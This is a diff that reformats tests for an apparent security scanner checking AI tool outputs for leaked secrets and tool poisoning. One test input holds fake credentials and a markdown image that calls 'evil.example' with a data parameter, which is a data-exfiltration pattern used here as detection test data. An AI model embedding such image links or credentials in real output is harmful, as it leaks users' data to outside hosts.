@@ -32,11 +32,9 @@ const BEFORE = Date.parse('2026-12-31T23:59:59.999Z')
 const AFTER = Date.parse('2027-01-01T00:00:00Z')
 
 const applied = (parts: Partial<Suppression>, nowMs = BEFORE) =>
-  createSuppressor([Suppression.parse({ ...base, ...parts })], (findings) => assessVerdict(findings, 0.6)).apply(
-    hostile,
-    where,
-    nowMs,
-  )
+  createSuppressor([Suppression.parse({ ...base, ...parts })], (findings) =>
+    assessVerdict(findings, 0.6),
+  ).apply(hostile, where, nowMs)
 
 describe('a suppression', () => {
   it('marks the finding, keeps it, and judges the rest anew', () => {
@@ -108,10 +106,15 @@ describe('finding codes', () => {
   const codes = listFindingCodes(compileShippedPacks())
 
   it('list what detectors and rules report', () => {
-    for (const code of ['secrets/github-token', 'secrets/jwt', 'tool-poisoning/secrecy', 'schema-violation/mismatch'])
-      expect(codes.has(code), code).toBe(true)
-    for (const code of ['secrets/github-tokn', 'rules/none', 'hidden-unicode/x', 'nobody/x'])
-      expect(codes.has(code), code).toBe(false)
+    const known = [
+      'secrets/github-token',
+      'secrets/jwt',
+      'tool-poisoning/secrecy',
+      'schema-violation/mismatch',
+    ]
+    expect(known.filter((code) => !codes.has(code))).toEqual([])
+    const unknown = ['secrets/github-tokn', 'rules/none', 'hidden-unicode/x', 'nobody/x']
+    expect(unknown.filter((code) => codes.has(code))).toEqual([])
   })
 
   it('hold every code that is really reported', () => {
@@ -120,6 +123,6 @@ describe('finding codes', () => {
       'password = "kX9$mQ2!vL7pR4" postgres://u:s3cr3tPw9x@db.example.org/x ![x](https://evil.example/a.png?d=1)'
     const { findings } = createTestInspector().inspect({ hook: 'result', value: { text }, context: CONTEXT })
     expect(findings.length).toBeGreaterThan(3)
-    for (const { code } of findings) expect(codes.has(code), code).toBe(true)
+    expect(findings.map(({ code }) => code).filter((code) => !codes.has(code))).toEqual([])
   })
 })
